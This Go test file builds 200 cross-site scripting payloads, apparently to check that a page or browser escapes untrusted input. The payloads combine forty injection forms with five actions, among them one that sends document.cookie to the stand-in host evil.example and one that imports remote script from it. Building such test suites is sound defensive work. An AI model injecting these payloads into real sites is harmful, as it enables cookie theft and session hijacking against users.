package browser_test

import "fmt"

// payloads are 200 texts that become something else where a page does not take care:
// tags, attributes, addresses, and what ends the places that data stands in.
func payloads() []string {
	do := []string{"alert(1)", "window.__hit=1", "fetch('https://evil.example/'+document.cookie)", "parent.__hit=1", "import('https://evil.example/x.js')"}
	forms := []string{
		`<script>%s</script>`, `</script><script>%s</script>`, `<ScRiPt src=//evil.example>%s</sCrIpT>`, `"><script>%s</script>`, `'><script>%s</script>`,
		`<img src=x onerror=%s>`, `"><img src=x onerror="%s">`, `<svg onload=%s>`, `<svg><script>%s</script></svg>`, `<svg><animate onbegin=%s attributeName=x dur=1s>`,
		`<body onload=%s>`, `<iframe src="javascript:%s">`, `<iframe srcdoc="<script>%s</script>">`, `<a href="javascript:%s">x</a>`, `javascript:%s`,
		`" onmouseover="%s`, `' onfocus='%s' autofocus='`, "` onclick=`%s", `x" style="x:expression(%s)`, `<style>@import 'https://evil.example/%s';</style>`,
		`</style><script>%s</script>`, `</title><script>%s</script>`, `</textarea><script>%s</script>`, `--><script>%s</script>`, `]]><script>%s</script>`,
		`<math><mtext></mtext><mglyph><style><img src onerror=%s>`, `<details open ontoggle=%s>`, `<video><source onerror=%s></video>`, `<object data="javascript:%s">`, `<embed src="javascript:%s">`,
		`<form action="javascript:%s"><button>x</button></form>`, `<base href="https://evil.example/%s/">`, `<meta http-equiv=refresh content="0;url=javascript:%s">`, `<link rel=stylesheet href="https://evil.example/%s">`, `{{%s}}`,
		`${%s}`, "\\u003cscript\\u003e%s\\u003c/script\\u003e", `&lt;script&gt;%s&lt;/script&gt;`, "<scr\x00ipt>%s</script>", "\u202e<b onpointerenter=%s>\u2028",
	}
	var list []string
	for _, form := range forms {
		for _, what := range do {
			list = append(list, fmt.Sprintf(form, what))
		}
	}
	return list
}
